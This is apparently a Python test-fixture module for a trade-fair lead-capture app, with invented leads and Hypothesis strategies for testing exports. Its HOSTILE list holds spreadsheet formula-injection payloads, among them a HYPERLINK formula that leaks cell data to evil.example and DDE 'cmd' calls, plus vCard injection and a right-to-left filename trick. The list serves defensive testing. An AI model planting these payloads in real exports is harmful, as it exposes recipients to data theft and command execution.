"""Small invented leads, and strategies for leads of every shape."""

from datetime import UTC, date, datetime, timedelta, timezone

from hypothesis import strategies as st

from app.domain.export import LeadBook
from app.domain.fair import Fair, Organisation
from app.domain.interest import Interest
from app.domain.lead import (
    Attachment,
    Code,
    Consent,
    FieldValue,
    Lead,
    NextStep,
    Note,
    Notice,
    Person,
    Purpose,
    Rating,
    Stamp,
)

BERLIN = timezone(timedelta(hours=1))
STAMP = Stamp("AK", "booth-1", datetime(2026, 11, 20, 14, 5, 9, tzinfo=BERLIN))
FAIR = Fair(
    "mining-2026",
    "Mining World 2026",
    "Ulaanbaatar",
    "B 14",
    date(2026, 11, 19),
    date(2026, 11, 21),
)
OTHER_FAIR = Fair("expo", "Expo Chile")
PRACTICE = Fair("practice", "Training", practice=True)
ORGANISATION = Organisation("MinGenTec e. V.", "Cottbus", "dpo@mingentec.example")
COMPLETE = Organisation(
    "MinGenTec",
    data_protection_contact="privacy@chamber.example",
    legal_person="Chamber (invented)",
    street="Goethestraße 1",
    postcode="03046",
    city="Cottbus",
    data_protection_officer="dpo@chamber.example",
)
"""One of which a notice says all that it has to."""
PUMPS_FULL = Interest(
    "seewald-pumpen", "Seewald Pumpen GmbH", "tauchpumpe", "Tauchpumpe S 200", True
)
DRILLS_ASKED = Interest("bohrwerk", "Bohrwerk Lausitz GmbH")

ANNA = Lead(
    id="6f1c0d1e-0001",
    fair=FAIR.id,
    created=STAMP,
    changed=STAMP,
    person=Person(
        first_name="Anna-Sofía",
        last_name="Müller; Öztürk, “Ö”",
        company="Эрдэнэт Үйлдвэр ХХК",
        job_title="Leiterin Einkauf",
        email="anna@erdenet.example",
        phone="+97611123456",
        mobile="+97699112233",
        website="erdenet.example/ру",
        street="Найрамдал хороолол 7",
        postcode="01968",
        city="Эрдэнэт",
        country="MN",
        language="mn",
    ),
    rating=Rating.HOT,
    next_step=NextStep.OFFER,
    due=date(2026, 12, 1),
    interests=(PUMPS_FULL, DRILLS_ASKED),
    consents=(
        Consent(Purpose.CONTACT, STAMP, "2026-1", "mn"),
        Consent(Purpose.HANDOVER, STAMP, "2026-1", "mn"),
        Consent(Purpose.NEWSLETTER, STAMP, "2026-1", "mn", datetime(2026, 11, 21, tzinfo=UTC)),
    ),
    notes=(Note("Braucht 3 Pumpen\nbis März, „sofort“ 🚜", STAMP), Note("=rückruf", STAMP)),
    codes=(Code("BEGIN:VCARD\nFN:Anna\nEND:VCARD", "QRCode"),),
    attachments=(Attachment("a1", "card.jpg", "image/jpeg"),),
    trail=("search pump", "member seewald-pumpen"),
)
IVAN = Lead(
    id="6f1c0d1e-0002",
    fair=OTHER_FAIR.id,
    created=STAMP,
    changed=STAMP,
    person=Person(first_name="Иван", last_name="Иванов", email="ivan@example.org", country="RU"),
    interests=(Interest("bohrwerk", "Bohrwerk Lausitz GmbH", handover=True),),
    consents=(
        Consent(Purpose.HANDOVER, STAMP, "2026-1", "ru", member="bohrwerk"),
        Consent(Purpose.NEWSLETTER, STAMP, "2026-1", "ru"),
    ),
)
COMPANY_ONLY = Lead("6f1c0d1e-0003", FAIR.id, STAMP, STAMP, Person(company="Kupfer AG"))
CODE_ONLY = Lead("6f1c0d1e-0004", FAIR.id, STAMP, STAMP, codes=(Code("rs8a3p67jep"),))
TRAINEE = Lead("6f1c0d1e-0005", PRACTICE.id, STAMP, STAMP, Person(last_name="Practice"))

BOOK = LeadBook(
    (ANNA, IVAN, COMPANY_ONLY, CODE_ONLY, TRAINEE), (FAIR, OTHER_FAIR, PRACTICE), ORGANISATION
)

OF_ALL_SCRIPTS = (
    "Иванов",
    "Батбаяр Өлзий",
    "Muñoz Ibáñez",
    "Jürgen Groß",
    "محمد العلي",
    "李小龙",
    "👩🏽‍🔧 Ada",
)
"""Names as people bear them."""
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "''=1+1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠A1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"; =1+1; "',
    'a,"b";c\td|e',
    "BEGIN:VCARD\r\nEND:VCARD",
    "x\nTEL:666\nEND:VCARD",
    "\\n \\, \\; \\\\ \\",
    "<b>&amp;</b>]]>",
    "_x0041_",
    "null",
    "00123",
    "1E5",
    "2026-11-20",
    "Ünï çødé",
    "Мөнхбаяр Өлзий",
    "José Ñandú",
    "محمد بن سلمان",
    "王小明",
    "नमस्ते",
    "👩‍👩‍👧‍👦 🇲🇳 🚜",
    "e\u0301\u0323 — “quotes” …",
    "\u202etxt.exe",
    "a" * 400,
    "ж🚜" * 200,
)

_any_words = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\u2028\u2029\x85"),
    max_size=40,
)
words = st.one_of(_any_words, st.sampled_from(HOSTILE))
_moments = st.datetimes(
    datetime(2020, 1, 1),  # noqa: DTZ001 - hypothesis adds the zone
    datetime(2040, 1, 1),  # noqa: DTZ001 - hypothesis adds the zone
    timezones=st.sampled_from([UTC, BERLIN, timezone(timedelta(hours=-3, minutes=-30))]),
).map(lambda moment: moment.replace(microsecond=0))
_stamps = st.builds(Stamp, words, words, _moments)
people = st.builds(Person, *[words] * 13)
leads = st.builds(
    Lead,
    id=st.uuids().map(str),
    fair=st.sampled_from([FAIR.id, OTHER_FAIR.id]),
    created=_stamps,
    changed=_stamps,
    person=people,
    rating=st.sampled_from([None, *Rating]),
    next_step=st.sampled_from([None, *NextStep]),
    due=st.none() | st.dates(date(2020, 1, 1), date(2040, 1, 1)),
    interests=st.lists(
        st.builds(Interest, words, words, words, words, st.booleans()), max_size=3
    ).map(tuple),
    consents=st.lists(
        st.builds(
            Consent,
            st.sampled_from(list(Purpose)),
            _stamps,
            *[words] * 2,
            st.none() | _moments,
            *[words] * 4,
        ),
        max_size=3,
    ).map(tuple),
    notices=st.lists(st.builds(Notice, _stamps, *[words] * 3), max_size=2).map(tuple),
    notes=st.lists(st.builds(Note, words, _stamps), max_size=3).map(tuple),
    codes=st.lists(st.builds(Code, words, words), max_size=2).map(tuple),
    attachments=st.lists(st.builds(Attachment, words, words, words), max_size=2).map(tuple),
    trail=st.lists(words, max_size=3).map(tuple),
    values=st.dictionaries(
        st.sampled_from(("of_a_later_program", "pronouns")), words.filter(bool)
    ).map(lambda told: tuple(FieldValue(name, told[name]) for name in sorted(told))),
)
